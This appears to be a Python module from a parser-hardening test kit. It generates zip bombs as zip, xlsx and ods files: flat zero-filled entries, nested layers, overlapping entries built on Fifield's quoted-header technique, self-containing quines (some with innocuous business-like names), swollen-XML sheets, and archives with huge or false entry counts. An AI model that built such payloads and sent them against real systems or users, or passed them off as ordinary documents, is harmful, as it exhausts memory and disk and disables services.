"""Zip bombs: flat, nested, overlapping, self-copying, of swollen XML and of many entries."""

from __future__ import annotations

import struct
import zlib

from .model import Kit
from .parts import DECL, MAIN, SHEET, Parts, ods, ods_row, xlsx
from .quine import quine
from .rawzip import (
    Entry,
    Packed,
    build,
    central,
    crc_join,
    deflated,
    ending,
    local,
    plain,
    repeated,
    stored,
)

MEG = 1 << 20


def _zeros(megabytes: int) -> Packed:
    """Give that many megabytes of nothing."""
    return repeated(b"", bytes(MEG), megabytes, b"")


def _spoilt(book: Parts, name: str, packed: Packed, **lies: int) -> bytes:
    """Give a workbook whose named part is the packed body."""
    entries = plain(book.raw())
    for entry in entries:
        if entry.name == name:
            entry.packed = packed
            for field, value in lies.items():
                setattr(entry, field, value)
            break
    else:
        entries.append(Entry(name, packed))
    return build(entries)


def _flat(kit: Kit) -> None:
    """Write bombs of one layer."""
    family = "bomb-flat"
    kit.add(family, "zeros-1g.zip", build([Entry("zeros.csv", _zeros(1024))]))
    kit.add(family, "zeros-4g.xlsx", build([Entry("zeros.bin", _zeros(4000))]))
    kit.add(family, "zeros-2g-as-sheet.xlsx", _spoilt(xlsx(), SHEET, _zeros(2048)))
    kit.add(family, "zeros-2g-as-content.ods", _spoilt(ods(), "content.xml", _zeros(2048)))
    kit.add(family, "zeros-1g-as-mimetype.ods", _spoilt(ods(), "mimetype", _zeros(1024)))
    kit.add(
        family,
        "zeros-2g-beside.xlsx",
        _spoilt(xlsx(), "xl/media/image1.png", _zeros(2048)),
        "defused",
    )
    kit.add(
        family, "zeros-2g-beside.ods", _spoilt(ods(), "Pictures/1.png", _zeros(2048)), "defused"
    )
    kit.add(family, "zeros-1g-says-ten.xlsx", _spoilt(xlsx(), SHEET, _zeros(1024), size=10))
    kit.add(family, "zeros-1g-says-ten.ods", _spoilt(ods(), "content.xml", _zeros(1024), size=10))
    many = [Entry(f"xl/worksheets/sheet{n}.xml", _zeros(256)) for n in range(1, 33)]
    kit.add(family, "zeros-32-of-256m.xlsx", build(plain(xlsx().drop(SHEET).raw()) + many))


def _nested(kit: Kit) -> None:
    """Write bombs of many layers."""
    family = "bomb-nested"
    core = build([Entry("0.csv", _zeros(512))])
    for depth, wide in ((2, 16), (3, 16), (4, 16), (5, 10), (6, 8)):
        body = core
        for _ in range(depth):
            body = build([Entry(f"{n}.zip", deflated(body)) for n in range(wide)])
        kit.add(family, f"layers-{depth}-wide-{wide}.zip", body)
        if depth < 5:
            kit.add(family, f"layers-{depth}-wide-{wide}.xlsx", body)
    body = xlsx().zip()
    for _ in range(200):
        body = build([Entry("book.xlsx", stored(body))])
    kit.add(family, "chain-of-200.xlsx", body)
    kit.add(family, "book-in-book.zip", build([Entry("book.xlsx", stored(xlsx().zip()))]))
    kit.add(
        family, "bomb-embedded.xlsx", xlsx().put("xl/embeddings/book.xlsx", core).zip(), "defused"
    )
    kit.add(family, "bomb-embedded.ods", ods().put("Object 1", core).zip(), "defused")


def _overlap(kit: Kit) -> None:
    """Write bombs whose entries share their bytes."""
    family = "bomb-overlap"
    for count, megabytes, kind in (
        (100, 64, "zip"),
        (1000, 64, "xlsx"),
        (20000, 16, "zip"),
        (1000, 64, "ods"),
    ):
        first = Entry("0.csv", _zeros(megabytes))
        rest = [
            Entry(
                f"{n}.csv",
                Packed(b"", first.packed.crc, first.packed.size),
                offset=0,
                packed_size=len(first.packed.data),
            )
            for n in range(1, count)
        ]
        kit.add(family, f"one-body-{count}.{kind}", _shared(first, rest))
    for count, megabytes, kind in (
        (50, 32, "zip"),
        (250, 64, "zip"),
        (250, 32, "xlsx"),
        (2000, 16, "zip"),
        (250, 32, "ods"),
    ):
        kit.add(family, f"quoted-headers-{count}.{kind}", quoted(count, _zeros(megabytes)))
    book = plain(xlsx().raw())
    sheet = next(e for e in book if e.name == SHEET)
    sheet.packed = _zeros(64)
    kit.add(
        family,
        "sheets-share-one-body.xlsx",
        build(
            [
                *book,
                *(
                    Entry(
                        f"xl/worksheets/sheet{n}.xml",
                        Packed(b"", sheet.packed.crc, 64 * MEG),
                        offset=0,
                        packed_size=len(sheet.packed.data),
                    )
                    for n in range(2, 400)
                ),
            ]
        ),
    )


def _shared(first: Entry, rest: list[Entry]) -> bytes:
    """Give a zip whose directory names one body many times over."""
    body = local(first) + first.packed.data
    directory = b"".join(central(e, 0) for e in [first, *rest])
    return body + directory + ending(len(rest) + 1, len(directory), len(body))


def quoted(count: int, kernel: Packed) -> bytes:
    """Give a zip whose entries each quote the headers of all that follow, after Fifield."""
    crc, size, width = kernel.crc, kernel.size, len(kernel.data)
    heads, entries = [b""] * count, []
    for n in reversed(range(count)):
        entry = Entry(f"{n:05}.csv", Packed(b"", crc, size), packed_size=width)
        head = local(entry)
        heads[n] = head
        entries.append(entry)
        crc = crc_join(zlib.crc32(head), crc, size)
        size += len(head)
        width += 5 + len(head)
    out = bytearray()
    offsets = []
    for n, head in enumerate(heads):
        if n:
            out += struct.pack("<BHH", 0, len(head), len(head) ^ 0xFFFF)
        offsets.append(len(out))
        out += head
    out += kernel.data
    entries.reverse()
    directory = b"".join(central(e, o) for e, o in zip(entries, offsets, strict=True))
    return bytes(out) + directory + ending(count, len(directory), len(out))


def _quines(kit: Kit) -> None:
    """Write zips that hold themselves."""
    family = "bomb-quine"
    for name, comment in (
        ("agency-figures-quarter-one.zip", b""),
        ("agency-figures-quarter-three.zi", b""),
        ("agency-figures-quarter-1.xlsx_", b""),
        ("agency-figures-quarter-01.xlsx", b""),
        ("xl/worksheets/sheet/sheet1.xml", b""),
        ("[Content_Types]/[Content_T].xm", b""),
    ):
        body = quine(name, comment)
        label = "".join(c for c in name if c.isalnum())[:24]
        kit.add(family, f"{label}.zip", body)
        kit.add(family, f"{label}.xlsx", body)
    body = quine("content/content/content_01.ods", b"quine")
    for kind in ("ods", "csv", "xls"):
        kit.add(family, f"quine.{kind}", body)


def _ratio(kit: Kit) -> None:
    """Write workbooks whose XML swells a thousandfold."""
    family = "bomb-xml-ratio"
    book = xlsx()
    head, tail = book.text(SHEET).encode().split(b"</sheetData>")
    row = b"<row><c><v>1</v></c><c><v>2</v></c></row>"
    for label, chunk, times in (
        ("rows-1g", row * 10000, 2500),
        ("spaces-2g", b" " * MEG, 2048),
        ("comments-1g", b"<!--" + b"-x" * 500000 + b"-->", 1000),
        ("empty-rows-1g", b"<row/>" * 100000, 1700),
        ("deep-tags", b"<a>" * 100000, 1000),
    ):
        kit.add(
            family,
            f"sheet-{label}.xlsx",
            _spoilt(book, SHEET, repeated(head, chunk, times, b"</sheetData>" + tail)),
        )
    one = f'{DECL}<worksheet xmlns="{MAIN}"><sheetData><row><c t="inlineStr"><is><t>'.encode()
    close = b"</t></is></c></row></sheetData></worksheet>"
    kit.add(
        family,
        "sheet-one-text-1g.xlsx",
        _spoilt(book, SHEET, repeated(one, b"A" * MEG, 1024, close)),
    )
    kit.add(
        family,
        "sheet-one-attribute-1g.xlsx",
        _spoilt(
            book,
            SHEET,
            repeated(
                f'<worksheet xmlns="{MAIN}" a="'.encode(),
                b"A" * MEG,
                1024,
                b'"><sheetData/></worksheet>',
            ),
        ),
    )
    for part, mark in (
        ("xl/sharedStrings.xml", b"</sst>"),
        ("xl/styles.xml", b"</styleSheet>"),
        ("xl/workbook.xml", b"</workbook>"),
        ("[Content_Types].xml", b"</Types>"),
        ("xl/_rels/workbook.xml.rels", b"</Relationships>"),
    ):
        before, after = book.text(part).encode().split(mark)
        kit.add(
            family,
            f"{part.rpartition('/')[2]}-1g.xlsx",
            _spoilt(book, part, repeated(before, b"<x>aaaaaaaaaa</x>" * 60000, 1000, mark + after)),
        )
    sheet = ods()
    before, after = sheet.text("content.xml").encode().split(b"</table:table>")
    for label, chunk, times in (
        ("rows-1g", ods_row("<table:table-cell/>").encode() * 10000, 1600),
        ("spaces-2g", b" " * MEG, 2048),
    ):
        kit.add(
            family,
            f"content-{label}.ods",
            _spoilt(
                sheet, "content.xml", repeated(before, chunk, times, b"</table:table>" + after)
            ),
        )


def _many(kit: Kit) -> None:
    """Write zips of very many entries, or that lie about how many."""
    family = "zip-entry-count"
    empty = stored(b"")
    for count in (10_000, 65_535):
        extra = [Entry(f"x/{n}", empty) for n in range(count)]
        kit.add(family, f"entries-{count}.xlsx", build(plain(xlsx().raw()) + extra), "defused")
        kit.add(family, f"entries-{count}.ods", build(plain(ods().raw()) + extra), "defused")
        kit.add(family, f"entries-{count}.zip", build(extra))
    for count in (0, 1, 3, 1000, 65_534):
        kit.add(family, f"claims-{count}.xlsx", build(plain(xlsx().raw()), count=count), "defused")
    kit.add(family, "claims-0.ods", build(plain(ods().raw()), count=0), "defused")
    kit.add(family, "claims-65534.ods", build(plain(ods().raw()), count=65_534), "defused")
    kit.add(
        family,
        "folders-200-deep.xlsx",
        build([*plain(xlsx().raw()), *(Entry("d/" * n, empty) for n in range(1, 201))]),
        "defused",
    )


def make(kit: Kit) -> None:
    """Write every bomb."""
    for part in (_flat, _nested, _overlap, _quines, _ratio, _many):
        part(kit)
